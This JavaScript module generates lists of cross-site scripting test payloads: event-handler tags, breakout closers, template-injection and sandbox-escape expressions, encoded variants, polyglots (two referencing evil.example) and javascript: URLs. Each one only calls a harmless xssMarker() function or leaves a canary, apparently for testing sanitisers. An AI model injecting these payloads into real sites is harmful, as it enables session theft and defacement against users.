const CALL = 'xssMarker()'
const HANDLERS =
  'onerror onload onfocus onmouseover onpointerenter ontoggle onanimationstart onbegin onstart onplay'.split(
    ' '
  )
const ELEMENTS = [
  ['img', 'src=x'],
  ['svg', ''],
  ['body', ''],
  ['input', 'autofocus'],
  ['details', 'open'],
  ['video', 'src=x'],
  ['iframe', ''],
  ['a', 'tabindex=0 autofocus'],
  ['style', ''],
]
const CLOSERS = [
  '',
  '">',
  "'>",
  '`>',
  '-->',
  '</script>',
  '</textarea>',
  '</title>',
  '</style>',
  ']]>',
  '})',
  '{{/}}',
]

const elements = ELEMENTS.flatMap(([name, rest]) =>
  HANDLERS.map((handler) => `<${name} ${rest} ${handler}=${CALL}>`)
)
const closed = CLOSERS.flatMap((closer) =>
  [`<script>${CALL}</script>`, `<xss-canary>`, `<svg/onload=${CALL}>`, `<img/src/onerror=${CALL}>`].map(
    (one) => closer + one
  )
)
const cased = elements.slice(0, 60).map((one, at) => (at % 2 ? one.toUpperCase() : one.replace(/ /g, '/')))
const templates = [
  `{{constructor.constructor('${CALL}')()}}`,
  `{{$el.ownerDocument.defaultView.${CALL}}}`,
  `{{ _c.constructor('${CALL}')() }}`,
  `\${${CALL}}`,
  `<%= ${CALL} %>`,
  `{{{ '<xss-canary>' }}}`,
  `@eval(${CALL})`,
  `#{${CALL}}`,
  `[[${CALL}]]`,
  `{%${CALL}%}`,
]
const encoded = [
  '&lt;',
  '&#60;',
  '&#x3c;',
  '\\u003c',
  '\\x3c',
  '%3C',
  '\u202e<',
  '<\u0000',
  '\uff1c',
  '<\t',
].flatMap((open) =>
  [`${open}script>${CALL}${open}/script>`, `${open}img src=x onerror=${CALL}>`, `${open}xss-canary>`].map(
    (one) => one.replaceAll('\u0000', '')
  )
)
const attributes = ['"', "'", '`', ' ', '\n', '&quot;', '&#34;'].flatMap((quote) => [
  `${quote} onfocus=${CALL} autofocus x=${quote}`,
  `${quote} style=animation-name:x onanimationstart=${CALL} ${quote}`,
  `${quote};${CALL};//`,
  `${quote}-${CALL}-${quote}`,
])
const polyglots = [
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${CALL} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${CALL}//>`,
  `'">><marquee><img src=x onerror=${CALL}></marquee>"></plaintext\\></|\\><plaintext/onmouseover=${CALL}>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<a href="javascript:${CALL}">x</a><form><button formaction=javascript:${CALL}>x`,
  `<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<object data="data:text/html,<script>parent.${CALL}</script>"><embed src="javascript:${CALL}">`,
  `<svg><animate xlink:href=#x attributeName=href values=javascript:${CALL} /><a id=x><text>x</text></a>`,
  `<template><script>${CALL}</script></template><link rel=stylesheet href=//evil.example/x.css>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>">`,
  `<!--<script>${CALL}`,
]

/** Strings that run `xssMarker` or leave an `xss-canary` behind wherever text is taken for something else. */
export const HOSTILE_STRINGS = [
  ...new Set([...polyglots, ...closed, ...templates, ...encoded, ...attributes, ...elements, ...cased]),
]

/** Whole values that run when they become the target of a link. */
export const HOSTILE_ADDRESSES = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  ` javascript:${CALL}`,
  `java\tscript:${CALL}`,
  `javascript://example.com/%0a${CALL}`,
  `data:text/html,<script>parent.${CALL}</script>`,
  `vbscript:${CALL}`,
]
